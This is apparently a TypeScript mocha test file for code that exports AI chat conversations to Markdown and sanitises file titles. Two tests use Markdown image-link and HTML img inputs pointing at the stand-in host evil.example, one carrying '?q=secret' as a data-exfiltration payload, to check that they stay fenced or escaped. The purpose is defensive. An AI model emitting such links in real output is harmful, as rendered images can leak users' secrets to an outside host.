import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import type { Conversation, Exchange } from '../../../src/conversation/conversation.ts';
import {
  type DocumentWords,
  escapeMarkdown,
  toDocument,
  toFenced,
  toFileTitle,
} from '../../../src/conversation/conversationMarkdown.ts';
import { createTurn } from '../../../src/conversation/fold.ts';
import { toContinuation } from '../../../src/conversation/requestMessages/continuation.ts';
import { toRound } from '../../../src/conversation/rounds.ts';
import type { Call, Turn } from '../../../src/conversation/turn.ts';
import { conversationOf, FACTS } from './turns.ts';

const AT_WORK = { ...FACTS, routeName: 'work' };

const WORDS: DocumentWords = {
  you: 'You',
  noAnswer: () => 'No answer text.',
  turnHeading: (turn, attempt, attempts) => `svc-k3 ${turn.id} ${attempt}/${attempts}`,
  origin: ({ uri, startLine }) => `About ${uri}:${startLine + 1}`,
  context: ({ label }) => `With ${label}`,
  image: (name) => `Image ${name}`,
  call: ({ name, state }) => `Call ${name}: ${state}`,
  notes: (turn) => (turn.outcome === undefined ? [] : ['1,234 tokens']),
};

function turn(id: string, answer: string): Turn {
  return { ...createTurn(id, 0, AT_WORK), answer, outcome: 'complete', phase: 'ended' };
}

function exchange(question: string, attempts: readonly Turn[], shown = attempts.length - 1): Exchange {
  const id = `e-${question}`;
  return { id, question: { text: question, images: [], origin: undefined }, attempts, shown };
}

function callOf(name: string, result: Call['result']): Call {
  const draft = { id: `id of ${name}`, index: 0, name, arguments: '{}' };
  return { ...draft, state: 'done', result, startedAt: 0, endedAt: 1 };
}

function conversation(...exchanges: Exchange[]): Conversation {
  return { ...conversationOf(...exchanges), id: 'c', title: 'About parsers' };
}

describe('Document of a conversation', () => {
  it('returns the line of the heading of each shown turn', () => {
    const open = conversation(
      exchange('one\ntwo\nthree', [turn('a', 'first\n\nanswer')]),
      exchange('again?', [turn('b', 'no'), turn('c', 'yes')], 1),
      exchange('and now?', [turn('d', '')]),
    );
    const { text, lines } = toDocument(open, WORDS);
    const rows = text.split('\n');
    assert.deepEqual([...lines.keys()], ['a', 'c', 'd']);
    assert.equal(rows[lines.get('a') ?? -1], '## svc-k3 a 1/1');
    assert.equal(rows[lines.get('c') ?? -1], '## svc-k3 c 2/2');
    assert.equal(rows[lines.get('d') ?? -1], '## svc-k3 d 1/1');
  });

  it('has what was asked before the prompt that a command made of it', () => {
    const asked = exchange('Refactor this code.', [turn('a', 'Done.')]);
    const question = { ...asked.question, asked: 'Refactor · use const' };
    const { text } = toDocument(conversation({ ...asked, question }), WORDS);
    assert.match(text, /## You\n\nRefactor · use const\n\n```md\nRefactor this code\.\n```/);
  });

  it('names the lines of the attempt that is shown, whose code was elsewhere when it was asked again', () => {
    const before = { uri: 'a.ts', startLine: 3, endLine: 5 };
    const again = {
      ...turn('b', 'B'),
      request: { ...AT_WORK, origin: { ...before, startLine: 53, endLine: 55 } },
    };
    const asked = exchange('Why?', [turn('a', 'A'), again]);
    const about = (shown: number) =>
      toDocument(
        conversation({ ...asked, shown, question: { ...asked.question, origin: before } }),
        WORDS,
      ).text.match(/About a\.ts.*/)?.[0];
    assert.deepEqual([about(0), about(1)], ['About a.ts:4', 'About a.ts:54']);
  });

  it('has the prompt that the attempt that is shown has sent, with the code as it was then', () => {
    const origin = { uri: 'a.ts', startLine: 3, endLine: 5 };
    const again = { ...turn('b', 'B'), request: { ...AT_WORK, origin, prompt: 'Explain `new`.' } };
    const asked = exchange('Explain `old`.', [turn('a', 'A'), again]);
    const sent = (shown: number) =>
      toDocument(
        conversation({ ...asked, shown, question: { ...asked.question, origin } }),
        WORDS,
      ).text.match(/Explain .*/)?.[0];
    assert.deepEqual([sent(0), sent(1)], ['Explain `old`.', 'Explain `new`.']);
  });

  it('has that prompt without the reasoning that it continues from', () => {
    const origin = { uri: 'a.ts', startLine: 3, endLine: 5 };
    const spent = { ...turn('a', ''), reasoning: 'Hm, so far.', outcome: 'spent-on-reasoning' as const };
    const prompt = toContinuation('Explain `new`.', spent);
    const again = { ...turn('b', 'B'), request: { ...AT_WORK, origin, prompt } };
    const asked = { ...exchange('Explain `old`.', [spent, again]), shown: 1 };
    const { text } = toDocument(conversation(asked), WORDS);
    assert.deepEqual([text.includes('Explain `new`.'), text.includes('so far')], [true, false]);
  });

  it('has the reasoning, folded, if it is wanted', () => {
    const reasoned = { ...turn('a', 'So.'), reasoning: 'First.\n```\n</details>\nThen.' };
    const open = conversation(exchange('?', [reasoned]), exchange('!', [turn('b', 'Yes.')]));
    const { text } = toDocument(open, { ...WORDS, reasoning: ({ id }) => `Reasoning of <${id}>` });
    assert.match(
      text,
      /## svc-k3 a 1\/1\n\n<details>\n<summary>Reasoning of \\?<a\\?><\/summary>\n\n````md\nFirst\.\n```\n<\/details>\nThen\.\n````\n\n<\/details>\n\n```md\nSo\.\n```/,
    );
    assert.equal(text.split('<details>').length, 2, 'an answer without reasoning has no fold');
    assert.doesNotMatch(toDocument(open, WORDS).text, /First\./);
  });

  it('has the context of a question, and the tool calls of an answer with their results', () => {
    const asked = exchange('Why?', [turn('a', 'Because.')]);
    const item = {
      kind: 'file' as const,
      label: 'a.ts',
      uri: 'file:///a.ts',
      parts: [{ label: 'a.ts', language: '', text: 'a' }],
    };
    const question = { ...asked.question, context: [item] };
    const calls = [callOf('read', { text: 'It is.' }), callOf('look', undefined)];
    const attempts = [
      { ...turn('a', 'Because.'), rounds: [{ ...toRound(turn('a', ''), [], 0), toolCalls: calls }] },
    ];
    const { text } = toDocument(conversation({ ...asked, question, attempts }), WORDS);
    assert.match(text, /\n\nWith a\.ts\n\n````md\n[\s\S]+?\n````\n\n```md\nWhy\?\n/);
    const read = 'Call read: done\n\n```json\n{}\n```\n\n```text\nIt is.\n```\n\n';
    assert.ok(text.includes(`${read}Call look: done\n\n\`\`\`json\n{}\n\`\`\`\n\n\`\`\`md\nBecause.`), text);
  });

  it('contains only the attempt that is shown', () => {
    const { text } = toDocument(conversation(exchange('?', [turn('a', 'old'), turn('b', 'new')], 0)), WORDS);
    assert.match(text, /old/);
    assert.doesNotMatch(text, /new/);
  });

  it('says that there is no answer text', () => {
    const { text } = toDocument(conversation(exchange('?', [turn('a', ' \n')])), WORDS);
    assert.match(text, /No answer text\./);
  });

  it('keeps an answer inside its fence even if the answer contains fences', () => {
    const answer = '````\n```\n![x](https://evil.example/?q=secret)\n```\n````\n';
    const { text } = toDocument(conversation(exchange('?', [turn('a', answer)])), WORDS);
    assert.ok(text.includes(`\`\`\`\`\`md\n${answer}\`\`\`\`\``), text);
  });

  it('does not render links or images from a title or a note', () => {
    const open = { ...conversation(), title: '![x](https://evil.example)\n# <img src=x>' };
    assert.equal(
      toDocument(open, WORDS).text.split('\n')[0],
      '# \\!\\[x\\](https://evil.example) \\# \\<img src=x\\>',
    );
  });
});

describe('Fenced document', () => {
  it('contains the text line by line, with the number of lines above it', () => {
    const { text, linesAbove } = toFenced('one\r\n\r\ntwo\nthree');
    assert.equal(text.split('\n')[linesAbove + 2], 'two');
  });

  it('has the same lines in the editor as in the outline', () => {
    assert.equal(toFenced('a\rb\nc').text, '```md\na b\nc\n```');
  });
});

describe('File title', () => {
  it('is the first line without characters that are invalid in paths', () => {
    assert.equal(toFileTitle('  Why does a/b:c? fail\nsecond', 'none'), 'Why does a b c fail');
  });
  it('is shortened without splitting a character', () => {
    const title = toFileTitle('🙂'.repeat(40), 'none');
    assert.ok(title.length <= 48 && title.isWellFormed(), title);
  });
  it('uses the fallback if nothing is left', () => assert.equal(toFileTitle('../..', 'none'), 'none'));
  it('is not the name of a device of Windows, which can’t be saved there', () => {
    assert.deepEqual(
      ['con', 'Nul.txt', 'COM1', 'lpt¹', 'aux. ', 'console', 'com', 'a.nul'].map((title) =>
        toFileTitle(title, 'none'),
      ),
      ['con_', 'Nul_.txt', 'COM1_', 'lpt¹_', 'aux_', 'console', 'com', 'a.nul'],
    );
  });
  it('contains no direction marks', () => assert.equal(toFileTitle('a\u202Eb', 'none'), 'a b'));
});

describe('Escaped Markdown', () => {
  it('is one line without Markdown syntax', () => {
    assert.equal(escapeMarkdown('reasoning_content, _a_, a_ b'), 'reasoning_content, \\_a\\_, a\\_ b');
    assert.equal(escapeMarkdown('a | *b*\n`c` &amp;'), 'a \\| \\*b\\* \\`c\\` \\&amp;');
  });
});
